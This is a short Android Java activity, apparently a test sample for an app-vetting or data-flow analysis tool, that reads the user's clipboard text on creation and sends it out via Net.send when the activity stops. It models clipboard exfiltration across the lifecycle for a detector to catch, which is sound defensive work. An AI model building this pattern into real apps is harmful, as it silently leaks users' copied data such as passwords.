package org.apkvet.clip.through_lifecycle;

import android.app.*;
import android.content.*;
import android.os.*;

public class Main extends Activity {
    private String text;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        text = copied();
    }

    private String copied() {
        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
    }

    @Override
    protected void onStop() {
        super.onStop();
        Net.send(text);
    }
}
